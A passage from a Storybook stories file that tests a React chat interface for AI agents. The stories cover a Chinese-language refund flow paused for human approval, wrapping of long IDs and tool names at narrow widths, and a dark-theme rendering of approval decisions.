                { parent: ZH.reply },
              ),
            ],
            {
              outcome: {
                type: 'interrupt',
                interrupts: [
                  { id: ZH.interrupt, reason: 'tool_call', toolCallId: ZH.call, message: '向尾号 4242 的银行卡退款 42.00 元？' },
                ],
              },
            },
          ),
        },
        {
          resume: [{ interruptId: ZH.interrupt, status: 'resolved', payload: { approved: true, comment: '客户是老用户，直接退款' } }],
          events: runOf([
            {
              type: 'TOOL_CALL_RESULT',
              messageId: '6a8c0e2f-4b6d-4f8a-a2c4-e6f8a0b2c4d6',
              toolCallId: ZH.call,
              content: JSON.stringify({ refundId: 'RF-88', status: 'refunded' }),
            },
            ...say(ZH.done, '退款已提交，预计 3 到 5 个工作日到账。'),
          ]),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('log', { name: '对话' })).toBeInTheDocument();
    await expect(canvas.getAllByText('助手').length).toBeGreaterThan(0);
    const chip = canvas.getByRole('button', { name: 'refund_order' });
    await expect(chip).toHaveAttribute('aria-expanded', 'false');
    await expect(chip.closest('.agk-toolcall')).toHaveTextContent('成功');
    const plan = canvas.getByRole('list', { name: '退款流程' });
    await expect(
      within(plan)
        .getAllByRole('listitem')
        .map((li) => li.textContent),
    ).toEqual(['核对订单与付款方式 (已完成)', '等待你批准退款 (进行中)', '通知仓库回收包裹 (待办)']);
    await expect(canvasElement.querySelector(`[data-agk-decision="${ZH.interrupt}"]`)).toHaveTextContent(
      /^你批准了 refund_order，备注：“客户是老用户，直接退款” · /,
    );
  },
};

const LONG_ID = 'order-0b7d2c7e31f44f9fa3b68d1e4c2f9a70-0b7d2c7e31f44f9fa3b68d1e4c2f9a70';

/** Long unbroken strings (ids, a URL, a tool name) at 360 px (or the canvas, when narrower): everything wraps, the conversation never scrolls sideways. */
export const LongStringsNarrow: Story = {
  render: (args, { loaded }) => (
    <AgentProvider store={(loaded as Loaded).store}>
      <div data-testid="frame" style={{ height: 560, width: 'min(360px, 100%)', boxSizing: 'border-box' }}>
        <MessageList {...args} />
      </div>
    </AgentProvider>
  ),
  loaders: [
    async () => ({
      store: await playedStore([
        {
          say: `Where is ${LONG_ID}? The tracking page https://parcelo.example/track/${LONG_ID}/history?lang=en does not load.`,
          events: runOf([
            ...sayAs('3e5a7c9b-1d3f-4a5c-8e7a-9c1b3d5f7a92', `Order \`${LONG_ID}\` is with the carrier.`, 2, {
              name: 'Order assistant for the Europe-Middle-East-Africa region',
            }),
            ...call(
              'call-0b7d2c7e-31f4-4f9f-a3b6-8d1e4c2f9a70',
              'crm_customer_relationship_lookup_by_external_reference_identifier_v2',
              { externalReference: LONG_ID },
              { parent: '3e5a7c9b-1d3f-4a5c-8e7a-9c1b3d5f7a92', result: { status: 'in_transit', carrierReference: LONG_ID } },
            ),
          ]),
        },
      ]),
    }),
  ],
  play: async ({ canvasElement }) => {
    const viewport = log(canvasElement);
    await expect(viewport.scrollWidth).toBeLessThanOrEqual(viewport.clientWidth);
    await userEvent.click(within(canvasElement).getByRole('button', { name: /^crm_customer_relationship/ }));
    await expect(viewport.scrollWidth).toBeLessThanOrEqual(viewport.clientWidth);
    for (const card of canvasElement.querySelectorAll<HTMLElement>('.agk-toolcall, .agk-message')) {
      await expect(card.scrollWidth).toBeLessThanOrEqual(card.clientWidth);
    }
  },
};

/** The decisions and chips in the dark theme (the theme's variables, on the whole canvas). */
export const DecisionsDark: Story = {
  ...Decisions,
  globals: { theme: 'dark' },
  play: async ({ canvasElement }) => {
    const line = canvasElement.querySelector('[data-agk-decision="1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d"]') as HTMLElement;
    await expect(line).toHaveTextContent(/^You rejected refund_order/);
    // Dark: the line's text is light on a dark surface.
    const [r = 0, g = 0, b = 0] = (getComputedStyle(line).color.match(/\d+/g) ?? []).map(Number);
    await expect(r + g + b).toBeGreaterThan(384);
  },
};
